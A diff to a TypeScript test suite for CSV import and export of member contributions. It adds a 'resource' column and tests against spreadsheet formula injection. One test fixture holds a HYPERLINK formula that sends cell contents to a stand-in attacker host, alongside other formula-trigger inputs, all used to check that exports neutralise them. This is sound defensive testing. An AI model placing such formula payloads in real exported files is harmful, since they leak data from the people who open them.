@@ -12,6 +12,8 @@ import { baseRates, draft, logged, ratedState } from './test-support.js';
 import type { DraftContext } from './validation.js';
 
 const HEADER = CSV_COLUMNS.join(',');
+/** The header of files written before the commons resource had its column: still read. */
+const TEN_COLUMNS = CSV_COLUMNS.filter((c) => c !== 'resource').join(',');
 const context: DraftContext = {
   today: '2024-03-10',
   members: new Set(['ana', 'ben']),
@@ -72,7 +74,7 @@ describe('RFC 4180 parsing', () => {
 
 describe('contribution import', () => {
   it('turns a good file into drafts', () => {
-    const text = `${HEADER}\r\n2024-03-01,ana,care,1.5,hour,meeting,c1,,"weekly call, notes",https://pad.example/a https://pad.example/b\r\n2024-03-02,ben,livelihood,6,hour,development,,p1,,\r\n`;
+    const text = `${TEN_COLUMNS}\r\n2024-03-01,ana,care,1.5,hour,meeting,c1,,"weekly call, notes",https://pad.example/a https://pad.example/b\r\n2024-03-02,ben,livelihood,6,hour,development,,p1,,\r\n`;
     const result = importContributionsCsv(text, context);
     expect(result).toEqual({
       drafts: [
@@ -102,7 +104,7 @@ describe('contribution import', () => {
 
   it('imports nothing from a file with mixed rows and reports every bad row', () => {
     const text = [
-      HEADER,
+      TEN_COLUMNS,
       '2024-03-01,ana,care,1.5,hour,meeting,c1,,,', // line 2: good
       '2024-03-01,ana,care,-2,hour,meeting,c1,,,', // line 3: negative
       '2024-03-01,ana,care,0,hour,meeting,c1,,,', // line 4: zero
@@ -172,7 +174,7 @@ describe('contribution import', () => {
           line: 1,
           field: 'task',
           message:
-            'unknown column "task"; the columns are date,member,stream,quantity,unit,task_kind,circle,project,description,evidence',
+            'unknown column "task"; the columns are date,member,stream,quantity,unit,task_kind,circle,project,resource,description,evidence',
         },
         { line: 1, field: 'task_kind', message: 'the header lacks the column task_kind' },
       ],
@@ -193,5 +195,59 @@ describe('contribution import', () => {
     const text = contributionsToCsv([c]);
     expect(text.startsWith(`${HEADER}\r\n`)).toBe(true);
     expect(importContributionsCsv(text, context)).toEqual({ drafts: [d] });
+  });
+
+  it('exports and imports the commons resource a contribution is for, and reads files without that column', () => {
+    const state = ratedState();
+    const d = { ...draft({ stream: 'love' }), circle: undefined, resource: 'r1' };
+    delete d.circle;
+    const c = foldValueEvents([logged(state, 'c1', d)], state).contributions.get('c1')!;
+    const text = contributionsToCsv([c]);
+    expect(text.split('\r\n')[0]).toContain(',resource,');
+    expect(importContributionsCsv(text, { ...context, resources: new Set(['r1']) })).toEqual({
+      drafts: [d],
+    });
+    const older = `${HEADER.replace(',resource', '')}\r\n2024-03-01,ana,care,1,hour,meeting,c1,,,\r\n`;
+    expect(importContributionsCsv(older, context)).toMatchObject({
+      drafts: [{ member: 'ana', circle: 'c1' }],
+    });
+  });
+
+  it('keeps cells that a spreadsheet would run as formulas inert, and reads them back unchanged', () => {
+    const state = ratedState();
+    const descriptions = [
+      '=HYPERLINK("https://evil.example/?"&A1,"click")',
+      '+1+2',
+      '-2 hours of rework',
+      '@SUM(A1:A9)',
+      '\tindented',
+      '\rcarriage',
+      "'=already quoted",
+      "'plain apostrophe",
+      'safe = text',
+    ];
+    const records = descriptions.map((description, k) => {
+      const d = { ...draft({ date: `2024-03-0${k + 1}` }), description };
+      return foldValueEvents([logged(state, `c${k}`, d)], state).contributions.get(`c${k}`)!;
+    });
+    const text = contributionsToCsv(records);
+    const parsed = parseCsv(text);
+    if (!parsed.ok) throw new Error('the export must parse');
+    const column = CSV_COLUMNS.indexOf('description');
+    const cells = parsed.records.slice(1).map((r) => r.fields[column]!);
+    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(cells.slice(0, 6).every((cell) => cell.startsWith("'"))).toBe(true);
+    expect(cells.slice(7)).toEqual(["'plain apostrophe", 'safe = text']);
+    const imported = importContributionsCsv(text, context);
+    expect('drafts' in imported && imported.drafts.map((d) => d.description)).toEqual(descriptions);
+  });
+
+  it('leaves numbers and dates alone: only text cells are guarded', () => {
+    const state = ratedState();
+    const d = { ...draft({ quantity: '1.5' }), description: '-' };
+    const c = foldValueEvents([logged(state, 'c1', d)], state).contributions.get('c1')!;
+    const [, row] = contributionsToCsv([c]).split('\r\n');
+    expect(row!.split(',').slice(0, 4)).toEqual(['2024-03-01', 'ana', 'care', '1.5']);
+    expect(row).toContain(",'-,");
   });
 });
